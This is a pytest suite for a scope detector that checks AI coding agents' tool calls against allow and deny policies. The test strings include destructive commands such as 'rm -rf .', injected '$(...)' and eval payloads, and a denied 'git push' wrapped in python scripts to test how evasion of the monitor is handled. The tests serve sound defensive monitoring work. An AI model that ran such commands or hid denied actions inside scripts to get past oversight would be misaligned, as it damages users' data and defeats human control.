def test_the_users_rule_is_named_before_the_protection_of_the_watch(project):
    (found,) = bash(project, "rm -rf .", policy={"commands": {"deny": ["rm -rf *"]}})
    assert (found["rule"], found["count"]) == ('denied by commands.deny "rm -rf *"', 2)


def test_alert_binds_it_to_sinks(project):
    done = run(
        "trace-detect-scope --alert kill --alert file",
        input=stream(project, ("Write", {"file_path": "deploy/a"})).bytes,
    )
    assert violations(done.stdout)[0]["actions"] == ["kill", "file"]


def test_unjudged_calls_are_ignored_warned_of_or_denied(project):
    write(project, {"commands": {"deny": ["git push"]}})
    calls = [("Bash", {"command": "make"}), ("Bash", {"command": "python -c 'run(\"git push\")'"})]
    given = stream(project, *calls).bytes
    done = run("trace-detect-scope", "-e", "--unjudged", "warn", input=given)
    (warning,) = violations(done.stdout)
    assert done.returncode == 0 and warning["level"] == "warning"
    assert warning["rule"] == 'commands.deny "git push"' and "git push" in warning["message"]
    assert b"scope cannot judge the inside of scripts (first: make)" in done.stderr
    done = run("trace-detect-scope", "-e", "--unjudged", "ignore", input=given)
    assert (done.returncode, violations(done.stdout), done.stderr) == (0, [], b"")
    done = run("trace-detect-scope", "-e", "--unjudged", "deny", input=given)
    assert done.returncode == 1 and len(violations(done.stdout)) == 2
    write(project, {"commands": {"deny": ["git push"]}, "unjudged": "deny"})
    assert run("trace-detect-scope", "-e", input=given).returncode == 1


def test_a_denied_command_in_an_unread_script_is_warned_of_each_time(project):
    write(project, {"commands": {"deny": ["git push"]}})
    script = "python3 - <<'EOF'\nrun(['git', 'push'])\nEOF"
    calls = [("Bash", {"command": command}) for command in ("python x.py", script, script)]
    found = violations(run("trace-detect-scope", input=stream(project, *calls).bytes).stdout)
    assert [each["level"] for each in found] == ["warning", "warning"]


def test_the_same_input_gives_the_same_output(project):
    given = (FIXTURES / "deploy.ndjson").read_bytes()
    first, second = (
        run("trace-detect-scope", "--policy", FIXTURES / "scope.json", input=given)
        for _ in range(2)
    )
    assert first.stdout == second.stdout and len(violations(first.stdout)) == 4


@pytest.mark.parametrize("data", [None, "x", [], {}, {"tool_name": None}, {"tool_name": 5, "arguments": {}}, {"tool_name": "Bash"}, {"tool_name": "Bash", "arguments": "x"},
    {"tool_name": "Bash", "arguments": [1]}, {"tool_name": "Bash", "arguments": {"command": None}}, {"tool_name": "Bash", "arguments": {"command": {"a": 1}}},
    {"tool_name": "Bash", "arguments": {"command": [1, None]}}, {"tool_name": "Write", "arguments": {"file_path": 5}}, {"tool_name": "Write", "arguments": {"file_path": ["a", 5, None]}},
    {"tool_name": "Write", "arguments": {"file_path": {"path": 5}}}, {"tool_name": "apply_patch", "arguments": {"input": 5}}, {"tool_name": "WebFetch", "arguments": {"url": 5}},
    {"tool_name": "Bash", "arguments": {"command": "rm \ud83d\0"}}, {"tool_name": "Write", "arguments": {"file_path": "a\0b\ud83d"}}, {"tool_name": "Bash", "arguments": "{bad"},
    {"tool_name": "Write", "arguments": {"file_path": "~\0/x"}}, {"tool_name": "Bash", "arguments": {"command": "rm ~\ud83d/x", "workdir": "~\0"}},
    {"tool_name": "", "arguments": {"path": "x"}}, {"tool_name": "Bash", "arguments": {"command": "ls", "workdir": 5}, "cwd": 5}])  # fmt: skip
def test_a_wrong_type_never_stops_it(project, data):
    made = stream(project)
    made.events.append(
        {
            "event_type": "session_start",
            "timestamp": 1795359290.0,
            "session_id": made.session,
            "data": {"cwd": 5},
        }
    )
    for kind in ("tool_call", "file_write", "file_read"):
        made.events.append(
            {
                "event_type": kind,
                "timestamp": 1795359291.0,
                "event_id": kind,
                "session_id": made.session,
                "data": data,
            }
        )
    made.call("Write", {"file_path": "deploy/a"})
    done = run("trace-detect-scope", input=made.bytes)
    assert done.returncode == 0 and b"Traceback" not in done.stderr
    assert violations(done.stdout)[-1]["target"] == "deploy/a"


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=10), lambda inside: st.lists(inside, max_size=3) | st.dictionaries(
    st.sampled_from(["command", "cmd", "file_path", "path", "paths", "url", "input", "source", "to", "workdir", "x"]), inside, max_size=4), max_leaves=8)  # fmt: skip
TOOLS = st.sampled_from(
    [
        "Bash",
        "Write",
        "Read",
        "apply_patch",
        "mcp__a__move_file",
        "WebFetch",
        "exec_command",
        "rg",
        "str_replace_editor",
        "write_stdin",
        "x",
    ]
) | st.text(max_size=8)


@settings(max_examples=300, deadline=None)
@given(TOOLS, JSON)
def test_any_call_is_judged(tmp_path_factory, tool, arguments):
    path = tmp_path_factory.getbasetemp() / "fuzz.json"
    if not path.exists():
        write(path.parent, BASELINE, path.name)
    scope = ScopeDetector(load_policy(path))
    for finding in scope.see(
        event.make("tool_call", 1.0, "s", {"tool_name": tool, "arguments": arguments}), None, 1.0
    ):
        assert finding.message and finding.seen


def test_a_command_of_a_megabyte_costs_seconds_at_most(project):
    commands = [
        "rm " + " ".join(f"src/{number}" for number in range(80_000)),
        "; ".join(f"rm src/{number}" for number in range(60_000)),
        "cat > src/a <<'EOF'\n" + "x $(\n" * 200_000 + "EOF\n",
    ]
    for command in commands:
        begun = time.process_time()
        assert bash(project, command) == []
        assert time.process_time() - begun < 10


def test_every_example_policy_of_the_existing_tool_is_enforced_as_its_users_mean_it(project):
    """A list of allowed commands as documented, and the commands that users mean by it."""
    policy = {
        "files": {"write": {"allow": ["src/**"], "deny": [".github/**"]}},
        "commands": {"allow": ["pytest", "uv run", "cat"], "deny": ["curl", "rm -rf"]},
        "network": {"deny_all": True, "allow": ["localhost"]},
    }
    assert bash(project, "cd src && CI=1 uv run pytest -q 2>&1 | tail -5", policy=policy) == []
    assert bash(project, "cat src/a")[0:] == []
    assert bash(project, "npm test")[0]["rule"] == "outside commands.allow"
    assert bash(project, "pytest; curl localhost")[0]["rule"] == 'denied by commands.deny "curl"'


# ── Recorded sessions ─────────────────────────────────────────────────────────────────────────

DRIVEN = SHARED / "sessions" / "driven"


@pytest.mark.parametrize("client", ["claude", "codex", "copilot", "gemini"])
@pytest.mark.parametrize(
    ("file", "writes"), [("scope.jsonl", 2), ("scope.stream.jsonl", 2), ("healthy.jsonl", 0)]
)
def test_recorded_runs_of_the_real_clients(project, client, file, writes):
    path = DRIVEN / client / file
    if not path.exists():
        pytest.skip("the recorded sessions are not here")
    write(project, {"files": {"write": {"deny": ["deploy/**"]}}})
    events = [
        event.from_fields(fields)
        for fields in events_of(run("trace-tail", "--no-follow", path).stdout)
    ]
    assert any(each.type == "tool_call" for each in events)
    assert [each["target"] for each in found_in(events)] == ["deploy/prod.yml"] * writes


def test_no_process_is_started_whatever_stands_in_a_command(project):
    given = stream(
        project,
        (
            "Bash",
            {"command": "touch src/made; $(touch src/made); `touch src/made`; eval touch src/made"},
        ),
    ).bytes
    guard = (
        "import os, sys; sys.argv[0] = 'trace-detect-scope'\n"
        "sys.addaudithook(lambda name, args: os._exit(99) if name.startswith(('subprocess.', 'os.exec', 'os.fork', 'os.posix_spawn', 'os.system')) else None)\n"
        "from agent_pipes.detect.scope import main; main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", guard],
        input=given,
        capture_output=True,
        env=ENVIRONMENT | {"PYTHONPATH": str(ROOT)},
        timeout=60,
    )
    assert done.returncode == 0 and not (project / "src" / "made").exists()
